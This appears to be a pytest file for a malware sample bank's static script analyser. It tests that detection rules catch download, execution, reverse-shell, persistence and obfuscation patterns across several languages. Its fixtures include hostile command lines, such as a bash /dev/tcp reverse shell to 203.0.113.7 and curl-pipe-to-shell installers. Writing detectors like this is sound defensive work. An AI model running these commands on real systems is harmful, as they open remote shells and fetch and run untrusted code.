"""Each alternative of the patterns of scripts finds what it is for, in any place and however a text hides its letters."""

import pytest
import yara_x

from samplebank.worker.analysers.static import scripts
from samplebank.worker.analysers.static.script_steps import RULES, places_in
from samplebank.worker.analysers.static.traits import TRAITS

#: a match for each alternative of the patterns
MATCHES: list[tuple[str, str]] = [
    ("download", ".DownloadString('"),
    ("download", "Invoke-WebRequest -"),
    ("download", "Invoke-RestMethod -"),
    ("download", "Start-BitsTransfer -"),
    ("download", "iwr h"),
    ("download", "irm h"),
    ("download", "New-Object Net.WebClient"),
    ("download", "CreateObject('MSXML2.ServerXMLHTTP"),
    ("download", "ActiveXObject('Microsoft.XMLHTTP"),
    ("download", "CreateObject('WinHttp.WinHttpRequest"),
    ("download", "certutil -urlcache"),
    ("download", "bitsadmin /transfer"),
    ("download", "curl -s https://"),
    ("download", "wget x.y ftp://"),
    ("download", "urllib.request.urlopen("),
    ("download", "URLDownloadToFileW("),
    ("execute", "IEX ("),
    ("execute", "| IEX"),
    ("execute", "Invoke-Expression $"),
    ("execute", "Start-Process x"),
    ("execute", "CreateObject('WScript.Shell"),
    ("execute", "CreateObject('Shell.Application"),
    ("execute", "ShellExecute("),
    ("execute", "cmd.exe /c"),
    ("execute", "chmod +x"),
    ("execute", "| sudo bash"),
    ("execute", "os.system("),
    ("execute", "subprocess.Popen("),
    ("execute", "exec("),
    ("execute", "eval("),
    ("execute", "mshta "),
    ("execute", "rundll32.exe "),
    ("execute", "regsvr32 "),
    ("installer", "curl -s https://example.com/x | sh"),
    ("installer", "wget -O- https://example.com/x | sudo bash"),
    ("installer", "irm https://example.com/x | iex"),
    ("installer", "iwr https://example.com/x | iex"),
    ("installer", "Invoke-RestMethod https://example.com/x | iex"),
    ("installer", "Invoke-WebRequest https://example.com/x | Invoke-Expression"),
    ("script-encoded-command", f"powershell -enc {'A' * 40}"),
    ("script-hidden-window", "-w hidden"),
    ("script-hidden-window", "-WindowStyle 1"),
    ("script-hidden-window", ".Run x, 0"),
    ("script-reverse-shell", "bash -i >& /dev/tcp/"),
    ("script-reverse-shell", "sh -i >& /dev/udp/"),
    ("script-reverse-shell", "nc x 1 -e /bin/"),
    ("script-reverse-shell", "ncat x 1 -c /bin/"),
    ("script-reverse-shell", "mkfifo f; cat f | nc"),
    ("script-reverse-shell", "exec 5<>/dev/tcp/"),
    ("script-persistence", "CurrentVersion\\Run"),
    ("script-persistence", "schtasks /create"),
    ("script-persistence", "New-ScheduledTask"),
    ("script-persistence", "/etc/cron.d"),
    ("script-persistence", "crontab -"),
    ("script-persistence", "systemctl enable"),
    ("script-persistence", "/etc/rc.local"),
    *[("decode in PowerShell", text) for text in ("FromBase64String(", "GzipStream", "DeflateStream", "-split x [char]")],
    *[
        ("run in PowerShell", text)
        for text in ("IEX", "Invoke-Expression", "Assembly]::Load", "[ScriptBlock]::Create", "VirtualAlloc")
    ],
    *[("decode in a shell", text) for text in ("base64 -d", "base64 --decode", "openssl enc x -d", "xxd -r")],
    *[("run in a shell", text) for text in ("| bash", "| python3", "| perl", "eval", "source /dev/")],
    *[
        ("decode in Python", text)
        for text in ("b64decode(", "zlib.decompress(", "marshal.loads(", "bytes.fromhex(", ".decode('hex", ".decode('rot13")
    ],
    *[("run in Python", text) for text in ("exec(", "eval(")],
    *[("decode in JavaScript", text) for text in ("atob(", "window.unescape(", "String.fromCharCode(")],
    *[("run in JavaScript", text) for text in ("window.eval(", "new Function(", "document.write(")],
    *[("decode in PHP", text) for text in ("base64_decode (", "gzinflate(", "str_rot13(")],
    *[("run in PHP", text) for text in ("eval(", "assert(", "create_function(")],
    *[("decode in VBScript", text) for text in ("Chr(1) & Chr(", "ChrW( 65 )&Chr(", "StrReverse(")],
    *[("run in VBScript", text) for text in ("ExecuteGlobal x", 'Execute "', "CreateObject('WScript.Shell")],
    ("connect in PowerShell", "Net.Sockets.TCPClient"),
    ("run an expression", "IEX"),
    ("run an expression", "Invoke-Expression"),
    ("connect in Python", "socket.socket"),
    ("hand over in Python", "dup2"),
    ("start a shell", "/bin/bash"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text"), MATCHES, ids=[text for _, text in MATCHES])
def test_a_pattern_finds_what_it_is_for(name: str, text: str) -> None:
    places = places_in(f"first\n{text}\nlast".encode())

    assert name in {**places.steps, **places.traits}


def test_every_rule_is_a_step_or_a_trait_that_is_known() -> None:
    stated = [dict(rule.metadata) for rule in yara_x.compile(RULES.read_text())]

    assert {one["trait"] for one in stated if "trait" in one} <= TRAITS.keys()
    assert all(("trait" in one) != ("step" in one) for one in stated)


def test_every_step_of_an_act_has_a_rule() -> None:
    steps = {dict(rule.metadata).get("step") for rule in yara_x.compile(RULES.read_text())}

    assert {step for act in (*scripts.DECODING, *scripts.REVERSE_SHELLS) for step in act} <= steps


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("powershell \u2013enc " + "QQBB" * 10, id="dash"),
        pytest.param("powershell\u00a0-enc\u00a0" + "QQBB" * 10, id="blank"),
        pytest.param("powershell -enc \u201c" + "QQBB" * 10, id="quote"),
    ],
)
def test_letters_that_interpreters_take_for_others_hide_nothing(text: str) -> None:
    _, findings = scripts.read(text.encode())

    assert [finding.trait for finding in findings] == ["script-encoded-command"]


@pytest.mark.parametrize(
    "padding",
    [b" " * 5000, b"\t " * 5000, b"\n \t" * 5000, b"A" * 5000],
    ids=["blanks", "tabs", "lines", "letters"],
)
def test_padding_does_not_keep_the_steps_of_an_act_apart(padding: bytes) -> None:
    _, findings = scripts.read(b"curl -O http://203.0.113.7/x \n#" + padding + b"\nchmod +x x")

    assert [finding.trait for finding in findings] == ["script-download-and-execute"]


def test_an_act_is_found_in_the_middle_of_a_long_text() -> None:
    line = b"harmless = 1;\n" * 40_000

    _, findings = scripts.read(line + b"bash -i >& /dev/tcp/203.0.113.7/443\n" + line)

    assert [finding.trait for finding in findings] == ["script-reverse-shell"]


def test_a_text_that_is_made_to_be_slow_is_searched_at_its_beginning_all_the_same() -> None:
    _, findings = scripts.read(b"bash -i >& /dev/tcp/203.0.113.7/443\n" + b"mkfifo |" * 2_000_000)

    assert "script-reverse-shell" in {finding.trait for finding in findings}


@pytest.mark.parametrize(
    ("text", "lines", "longest"), [(b"", 0, 0), (b"ab", 1, 2), (b"ab\n", 1, 2), (b"a\nlong\n\nb", 4, 4)]
)
def test_lines_are_counted(text: bytes, lines: int, longest: int) -> None:
    facts, _ = scripts.read(text)

    assert (facts["lines"], facts["longestLine"]) == (lines, longest)
